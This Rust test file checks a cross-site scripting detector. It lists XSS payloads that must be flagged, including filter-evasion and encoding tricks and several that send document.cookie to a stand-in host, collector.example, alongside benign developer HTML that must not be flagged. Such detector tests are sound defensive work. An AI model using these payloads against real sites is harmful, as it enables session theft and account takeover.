use super::TRIGGERS;
use crate::detect::Detector;
use crate::detect::tests::{Wanted, assert_judged, is_triggered};

#[test]
fn what_is_a_script_beyond_doubt() {
    assert_judged(
        Detector::CrossSiteScripting,
        Wanted::AtLeast(90),
        &[
            "<script>alert(7)</script>",
            "\"><script>confirm(document.domain)</script>",
            "</textarea><script>prompt(7)</script>",
            "<script>new Image().src='//collector.example/?'+document.cookie</script>",
            "<img src=q onerror=alert(7)>",
            "<svg/onload=confirm(7)>",
            "<details open ontoggle=alert(7)>",
            "<input onfocus=prompt(7) autofocus>",
            "<iframe srcdoc=\"<svg onload=alert(7)>\">",
            "<a href=\"java&#10;script:alert(7)\">go</a>",
            "javascript:alert(document.cookie)",
            "[look](javascript:prompt(document.cookie))",
            "{\"bio\": \"<img src=q onerror=alert(7)>\"}",
        ],
    );
}

#[test]
fn what_is_most_likely_a_script() {
    assert_judged(
        Detector::CrossSiteScripting,
        Wanted::AtLeast(50),
        &[
            // Elements.
            "<script src=//collector.example></script>",
            "<object data=\"data:text/html;base64,PHN2Zz4=\"></object>",
            "<embed src=\"javascript:alert(7)\">",
            "<base href=//collector.example/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(7)\">",
            "<link rel=stylesheet href=//collector.example/q.css>",
            "<style>@import'//collector.example/q.css';</style>",
            "<!--#exec cmd=\"hostname\"-->",
            // Handlers and styles, within an element and out of one.
            "<x onpointerrawupdate=alert(7)>here",
            "<div onmouseenter=\"alert(7)\" style=\"position:fixed\">",
            "<div style=\"width:expression(alert(7))\">",
            "\" onfocus=alert(7) autofocus=\"",
            "' onmouseover='prompt(7)",
            "<b onclick=alert(7)>",
            // Scripts put into scripts.
            "';alert(7)//",
            "'-confirm(7)-'",
            "\\'-alert(7)//",
            "${alert(7)}",
            "alert`7`",
            "(alert)(7)",
            "[4].find(alert)",
            "top[\"al\"+\"ert\"](7)",
            "eval(atob('cHJvbXB0KCk='))",
            "onerror=alert;throw 7",
            "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
            // Addresses.
            "vbscript:msgbox(7)",
            "jav\tascript:alert(7)",
            "data:text/html,<script>alert(7)</script>",
            "<a href=&#106;&#97;&#118;&#97;&#115;&#99;ript:alert(7)>",
            // Templates, encodings.
            "{{constructor.constructor('alert(7)')()}}",
            "\\u003cimg src=q onerror=alert(7)\\u003e",
            "+ADw-script+AD4-alert(7)+ADw-/script+AD4-",
            "<ScRiPt>alert(7)</sCrIpT>",
            "<scr<script>ipt>alert(7)</scr</script>ipt>",
            // In prose.
            "My name is <b onmouseover=alert(7)>Ann</b>, nice to meet you all",
            "Set my bio to \"><img src=q onerror=fetch('//collector.example/'+document.cookie)>",
        ],
    );
}

#[test]
fn what_developers_and_others_write() {
    assert_judged(
        Detector::CrossSiteScripting,
        Wanted::Below(50),
        &[
            "<!DOCTYPE html>\n<html><head><meta charset=\"UTF-8\"><title>Shop</title><link rel=\"stylesheet\" href=\"style.css\">\n\
         <script src=\"https://cdn.example/lib.js\"></script><script>document.getElementById('m').onclick = go;</script></head>\n\
         <body><a href=\"/about\">About</a><button onclick=\"toggle()\">Menu</button></body></html>",
            "How do I centre a div? I have <div class=\"box\" style=\"display:flex\"><p>Hi</p></div> and it is not centred.",
            "Why does <button onclick=\"save()\">Save</button> not call my function when I press it?",
            "What is the difference between <script src=\"a.js\"></script> and <script async src=\"a.js\"></script>?",
            "<form onsubmit=\"return validate(this)\"><input onchange=\"check(this.value)\"></form>\n<script>\nfunction validate(f) {\n\
         if (f.name.value === '') { alert('Please fill in the name'); return false; } return true; }\n</script>",
            "function greet() { alert(\"Hello \" + document.getElementById('n').value); }",
            "export default function App() { return <div onClick={() => setCount(count + 1)}>{`Count: ${count}`}</div>; }",
            "<li v-for=\"item in items\" :key=\"item.id\" @click=\"select(item)\">{{ item.name }}</li>",
            "Hello {{ name }}, your order {{ order.id }} has shipped. {% if late %}Sorry!{% endif %}",
            "<svg width=\"24\" height=\"24\"><path d=\"M12 2L2 7l10 5z\" fill=\"#333\"/></svg>",
            "<iframe width=\"560\" height=\"315\" src=\"https://video.example/embed/abc\" allowfullscreen></iframe>",
            "<a href=\"javascript:void(0)\" class=\"btn\">Close</a>",
            "<meta http-equiv=\"refresh\" content=\"5; url=/home\">",
            "window.location.href = \"/login\"; setTimeout(() => { location.reload(); }, 1000);",
            "document.cookie = \"theme=dark; path=/\"; const parts = document.cookie.split(';');",
            "el.innerHTML = `<span>${name}</span>`; img.onerror = function () { this.src = 'fallback.png'; };",
            "We were online = always; x < 5 and y > 3; a<b>c; std::map<std::string, int> m; I <3 you -> <ann@example.com>",
            "JavaScript: the good parts. Java script: a slip of the pen.",
            "throw new Error(`cannot read ${input?.constructor?.name}`)",
            "",
        ],
    );
}

#[test]
fn what_is_found_has_a_trigger() {
    for text in [
        "<svg onload=alert(7)>",
        "javascript:alert(7)",
        "' onfocus='a(7)",
        "'-alert(7)-'",
        "[4].find(alert)",
    ] {
        assert!(is_triggered(TRIGGERS, text), "{text}");
    }
}
